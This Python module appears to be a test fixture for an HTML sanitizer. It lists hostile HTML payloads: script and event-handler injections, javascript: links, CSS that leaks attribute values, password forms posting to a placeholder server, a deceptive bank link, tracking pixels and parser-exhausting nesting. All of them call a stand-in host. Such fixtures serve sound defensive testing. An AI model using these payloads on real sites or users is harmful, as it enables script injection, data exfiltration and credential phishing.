"""HTML that tries to do something when its reviewer looks at it. `{to}` is a server that must never be asked."""

from __future__ import annotations

__all__ = ["HOSTILE"]

_SCRIPTED = "fetch('{to}/ran');try{{top.document.title='ran'}}catch(e){{}};document.title='ran'"

HOSTILE: dict[str, str] = {
    "script": f"<p>Hi</p><script>{_SCRIPTED}</script>",
    "script from elsewhere": "<script src='{to}/x.js'></script><script type=module src='{to}/y.js'></script>",
    "script in a template": (
        f"<template><script>{_SCRIPTED}</script></template><noscript><img src='{{to}}/n'></noscript>"
    ),
    "event handlers": (
        f'<img src=x onerror="{_SCRIPTED}"><body onload="{_SCRIPTED}"><p onclick="{_SCRIPTED}">Click</p>'
        f'<details open ontoggle="{_SCRIPTED}">x</details><input autofocus onfocus="{_SCRIPTED}">'
    ),
    "svg": (
        f'<svg onload="{_SCRIPTED}"><script>{_SCRIPTED}</script><image href="{{to}}/i"/>'
        '<use href="{to}/u#a"/></svg>'
    ),
    "math": '<math><maction actiontype="statusline" xlink:href="javascript:fetch(\'{to}/m\')">x</maction></math>',
    "javascript links": (
        "<a href=\"javascript:fetch('{to}/j')\">Click</a><a href=\"java&#10;script:fetch('{to}/j')\">Click</a>"
        "<a href=\"data:text/html,<script>fetch('{to}/d')</script>\">Click</a>"
    ),
    "form": (
        "<form action='{to}/form' method=post><input name=password type=password><button>Click</button></form>"
        "<form action=/pause method=post><button>Click</button></form><button formaction='{to}/b'>Click</button>"
    ),
    "form by an outer id": "<input form=x name=a><button form=x formaction='{to}/f'>Click</button><form id=x></form>",
    "style that loads": (
        "<style>@import url({to}/a.css);@import '{to}/b.css';body{{background:url({to}/c)}}"
        "@font-face{{font-family:f;src:url({to}/f.woff)}}p{{font-family:f;cursor:url({to}/cur),auto}}</style><p>x</p>"
    ),
    "style that asks by attribute": (
        "<style>input[value^=a]{{background:url({to}/a)}}a[href*=proof]{{list-style:url({to}/p)}}"
        "p::before{{content:url({to}/b)}}@supports (a:b){{p{{background:image-set('{to}/s' 1x)}}}}</style>"
        "<input value=abc><p>x</p>"
    ),
    "style with escapes": (
        "<style>p{{background:\\75\\72\\6c({to}/e)}}@\\69mport '{to}/i';</style>"
        "<p style='background:u\\72l({to}/s)'>x</p>"
    ),
    "style in attributes": (
        "<table background='{to}/bg'><tr><td style=\"background-image:url('{to}/td')\">x</td></tr></table>"
        '<div style="position:fixed;inset:0;background:url({to}/full)">over</div>'
    ),
    "style that breaks out": (
        "<style></style><img src='{to}/o'><style><!--</style><img src='{to}/p'>--></style><p>x</p>"
    ),
    "meta refresh": (
        "<meta http-equiv=refresh content='0;url={to}/r'><meta http-equiv=Content-Security-Policy content=''>"
    ),
    "base and link": (
        "<base href='{to}/'><link rel=stylesheet href='{to}/l.css'><link rel=preconnect href='{to}'>"
        "<link rel=dns-prefetch href='{to}'><link rel=prefetch href='{to}/p'><link rel=preload as=image href='{to}/q'>"
        "<link rel=modulepreload href='{to}/m'><link rel=icon href='{to}/i'><img src=relative.png>"
    ),
    "pictures": (
        "<img src='{to}/pixel.gif' width=1 height=1><img srcset='{to}/a 1x, {to}/b 2x'><picture><source "
        "srcset='{to}/s'><img src='{to}/t'></picture><img src='//{host}/schemeless'><img src='\t{to}/tab'>"
        "<img lowsrc='{to}/low' dynsrc='{to}/dyn'><input type=image src='{to}/in'>"
    ),
    "media": (
        "<video src='{to}/v' poster='{to}/po' autoplay></video><audio src='{to}/a' autoplay></audio>"
        "<track src='{to}/t'><object data='{to}/o'></object><embed src='{to}/e'><applet code='{to}/c'></applet>"
    ),
    "frames": (
        "<iframe src='{to}/f'></iframe><iframe srcdoc=\"<img src='{to}/sd'>\"></iframe><frameset><frame src='{to}/fr'>"
        "</frameset><portal src='{to}/p'></portal><fencedframe src='{to}/ff'></fencedframe>"
    ),
    "links that lead away": (
        "<a href='{to}/away'>Click</a><a href='{to}/top' target=_top>Click</a>"
        "<a href='{to}/blank' target=_blank>Click</a>"
        "<a href='{to}/ping' ping='{to}/pinged'>Click</a><area href='{to}/area'>"
    ),
    "links that lie": "<a href='{to}/login'>https://www.bank.example/login</a>",
    "a deep nest": "<div>" * 20_000 + "<img src='{to}/deep'>" + "</div>" * 20_000,
    "a million characters": "<p>All work and no play. <img src='{to}/m'></p>" * 22_000,
    "markup in markup": (
        "<noscript><p title=\"</noscript><img src='{to}/ns'>\"></noscript><textarea><img src='{to}/ta'></textarea>"
        "<xmp><img src='{to}/xmp'></xmp><svg><style><img src='{to}/ss'></style></svg><!--><img src='{to}/c'>-->"
    ),
}
